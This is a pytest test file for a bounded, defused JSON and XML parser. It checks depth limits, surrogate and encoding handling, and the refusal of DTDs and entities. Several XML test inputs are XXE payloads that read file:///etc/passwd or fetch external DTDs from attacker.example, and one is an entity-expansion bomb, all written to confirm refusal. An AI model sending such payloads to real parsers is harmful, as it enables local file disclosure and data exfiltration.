"""Bounded, defused parsing of untrusted bodies (connectors/sources/safe_parse.py, D95): every refusal is an
``UnreadableInput`` with a snake_case reason — never RecursionError, UnicodeError or an expanded entity."""

from __future__ import annotations

import codecs
import json
import sys
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ledgerlink.connectors.sources.safe_parse import (
    MAX_JSON_DEPTH,
    MAX_XML_DEPTH,
    UnreadableInput,
    json_depth,
    load_json,
    parse_xml,
)


def reason(function: Any, body: bytes) -> str:
    with pytest.raises(UnreadableInput) as refused:
        function(body)
    return refused.value.reason


def nested(depth: int, opening: bytes = b"[", closing: bytes = b"]", leaf: bytes = b"1") -> bytes:
    return opening * depth + leaf + closing * depth


# ---- JSON: depth -------------------------------------------------------------------------------------

def test_json_nested_to_the_limit_is_read_and_one_level_more_is_refused() -> None:
    assert json_depth(nested(MAX_JSON_DEPTH)) == MAX_JSON_DEPTH
    assert load_json(nested(MAX_JSON_DEPTH)) is not None
    assert reason(load_json, nested(MAX_JSON_DEPTH + 1)) == "payload_too_deep"
    assert reason(load_json, nested(MAX_JSON_DEPTH + 1, b'{"a":', b"}")) == "payload_too_deep"


@pytest.mark.parametrize("depth", [1_500, 5_000, sys.getrecursionlimit() * 20])
def test_json_nested_past_the_interpreters_recursion_limit_is_refused_not_a_recursion_error(depth: int) -> None:
    # CPython's json parser recurses: ~1,500 levels (a 3 KB body) raised RecursionError, which ingest answered 503
    for opening, closing in ((b"[", b"]"), (b'{"a":', b"}"), (b'{"a":[', b"]}")):
        assert reason(load_json, nested(depth, opening, closing)) == "payload_too_deep"
    assert reason(load_json, b"[" * depth) == "payload_too_deep"   # never closed: still refused before parsing


def test_brackets_inside_strings_and_escaped_quotes_are_not_nesting() -> None:
    body = json.dumps({"text": "[" * 500 + '\\"{{{' + "{" * 500, "key[[[": ['"]]]', "\\", {"x": "\\\"["}]}).encode()
    assert json_depth(body) == 3
    assert load_json(body)["text"].startswith("[[[")


def test_the_depth_limit_holds_for_other_valid_json_too() -> None:
    assert json_depth(b'"just a string [[["') == 0
    assert json_depth(b"[]") == 1
    assert json_depth(b"[[],[[]],{}]") == 3


json_documents = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(alphabet=st.sampled_from('[]{}"\\ab\u00e9\u2028'), max_size=8),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(
        st.text(alphabet=st.sampled_from('[]{}"\\x'), max_size=4), children, max_size=3),
    max_leaves=30)


def _depth(value: Any) -> int:
    if isinstance(value, dict):
        return 1 + max((_depth(v) for v in value.values()), default=0)
    if isinstance(value, list):
        return 1 + max((_depth(v) for v in value), default=0)
    return 0


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(document=json_documents, ensure_ascii=st.booleans())
def test_the_depth_counted_on_the_bytes_is_the_documents_depth(document: Any, ensure_ascii: bool) -> None:
    body = json.dumps(document, ensure_ascii=ensure_ascii).encode("utf-8")
    assert json_depth(body) == _depth(document)
    assert load_json(body) == document


# ---- JSON: encodings and lone surrogates ---------------------------------------------------------------

@pytest.mark.parametrize("body", [
    b'{"type": "invoice.\\ud800paid"}',        # a high surrogate alone
    b'{"type": "\\udfff"}',                     # a low surrogate alone
    b'{"type": "\\ud83d\\ud83d"}',              # two highs
    b'{"type": "\\ude00\\ud83d"}',              # a pair in the wrong order
    b'{"\\ud800": "in a key"}',
    b'["ok", {"deep": ["\\uDBFF"]}]',           # upper-case hex
])
def test_a_lone_surrogate_escape_is_invalid_unicode(body: bytes) -> None:
    assert reason(load_json, body) == "invalid_unicode"


def test_surrogate_pairs_and_escaped_backslashes_are_fine() -> None:
    assert load_json(b'{"emoji": "\\ud83d\\ude00"}') == {"emoji": "\U0001f600"}
    assert load_json(b'{"text": "\\\\ud800"}') == {"text": "\\ud800"}   # a backslash, then text


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"])
@pytest.mark.parametrize("bom", [False, True])
def test_json_in_utf16_or_utf32_is_malformed_json(codec: str, bom: bool) -> None:
    # json.loads(bytes) would guess these encodings; providers send UTF-8 and ingest forwards the body as UTF-8 text
    marks = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE, "utf-32-le": codecs.BOM_UTF32_LE,
             "utf-32-be": codecs.BOM_UTF32_BE}
    body = (marks.get(codec, b"") if bom else b"") + json.dumps({"id": "evt_1", "type": "x"}).encode(codec)
    assert reason(load_json, body) == "malformed_json"


@pytest.mark.parametrize("body", [b'{"a": "\xff"}', b'{"a": "\xc3\x28"}', b'{"a": "\xed\xa0\x80"}', b'{"a": "\xc0\xaf"}',
                                  b'{"a": "\xe2\x82"}', b"\xef\xbb\xbf{}"])
def test_invalid_utf8_is_malformed_json(body: bytes) -> None:
    assert reason(load_json, body) == "malformed_json"


# ---- XML: DTDs and entities in every encoding ---------------------------------------------------------

DOCUMENT = ('<?xml version="1.0" encoding="{encoding}"?>'
            '<!DOCTYPE Envelope [<!ENTITY ent "EXPANDED">]><Envelope><Name>&ent;</Name></Envelope>')
ENCODINGS = [("UTF-8", "utf-8", b""), ("UTF-16", "utf-16", b""), ("UTF-16", "utf-16-le", b""),
             ("UTF-16", "utf-16-be", b""), ("UTF-16", "utf-16-le", codecs.BOM_UTF16_LE),
             ("UTF-16", "utf-16-be", codecs.BOM_UTF16_BE), ("UTF-8", "utf-8", codecs.BOM_UTF8),
             ("ISO-8859-1", "latin-1", b""), ("US-ASCII", "ascii", b"")]


@pytest.mark.parametrize(("declared", "codec", "bom"), ENCODINGS)
def test_a_doctype_is_refused_in_every_encoding_expat_reads(declared: str, codec: str, bom: bytes) -> None:
    # a byte check for b"<!DOCTYPE" let UTF-16 through, and the entity was expanded in a Salesforce message
    body = bom + DOCUMENT.format(encoding=declared).encode(codec)
    assert reason(parse_xml, body) == "xml_dtd_forbidden"
    assert reason(parse_xml, body.replace(f"encoding=\"{declared}\"".encode(codec), b"")) in (
        "xml_dtd_forbidden", "malformed_xml")   # no declaration: expat guesses from the first bytes, or gives up


@pytest.mark.parametrize("body", [
    b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
    b'<!DOCTYPE x PUBLIC "-//X//EN" "http://attacker.example/x.dtd"><x/>',
    b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><x/>',
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>',
    b"<!DOCTYPE x><x/>",
])
def test_external_parameter_and_nested_entities_are_refused(body: bytes) -> None:
    assert reason(parse_xml, body) == "xml_dtd_forbidden"


def test_an_undeclared_entity_is_malformed_and_predefined_ones_are_read() -> None:
    assert reason(parse_xml, b"<x>&undeclared;</x>") == "malformed_xml"
    assert parse_xml(b"<x>&lt;&amp;&gt;&quot;&apos;&#65;&#x42;</x>").text == "<&>\"'AB"


def test_a_utf16_document_without_a_doctype_is_read() -> None:
    body = '<?xml version="1.0" encoding="UTF-16"?><Envelope><Name>caf\u00e9</Name></Envelope>'.encode("utf-16")
    assert parse_xml(body).find("Name").text == "caf\u00e9"


# ---- XML: depth and everything else -------------------------------------------------------------------

def test_xml_nested_to_the_limit_is_read_and_one_level_more_is_refused() -> None:
    assert parse_xml(nested(MAX_XML_DEPTH, b"<a>", b"</a>", b"x")) is not None
    assert reason(parse_xml, nested(MAX_XML_DEPTH + 1, b"<a>", b"</a>", b"x")) == "payload_too_deep"


@pytest.mark.parametrize("depth", [5_000, 100_000])
def test_deep_xml_is_refused_while_parsing(depth: int) -> None:
    assert reason(parse_xml, nested(depth, b"<a>", b"</a>", b"")) == "payload_too_deep"
    assert reason(parse_xml, b"<a>" * depth) == "payload_too_deep"   # unclosed: refused at level 65 all the same


@pytest.mark.parametrize("body", [b"<", b"<a>", b"", b"<a></b>", b"\xff\xfe<\x00", b"<a>\xff</a>",
                                  b'<?xml version="1.0" encoding="TF-8"?><a/>', "<a/>".encode("utf-32"),
                                  b"<a>&#xD800;</a>", b"<a>&#0;</a>"])
def test_anything_else_expat_cannot_read_is_malformed_xml(body: bytes) -> None:
    assert reason(parse_xml, body) == "malformed_xml"
